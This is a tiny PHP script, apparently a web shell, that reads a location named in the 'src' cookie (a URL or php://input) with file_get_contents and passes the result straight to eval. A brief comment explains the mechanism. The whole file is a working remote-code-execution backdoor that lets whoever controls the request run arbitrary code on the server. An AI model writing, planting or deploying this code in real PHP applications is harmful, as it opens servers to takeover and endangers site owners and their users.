<?php
// The request names a file (a URL, php://input) whose content a wrapper
// reads and hands to eval: the read returns what its path's owner chose.
function fetch_text($where) { return @file_get_contents($where); }
function run_text($text) { return eval($text); }
run_text(fetch_text($_COOKIE['src']));
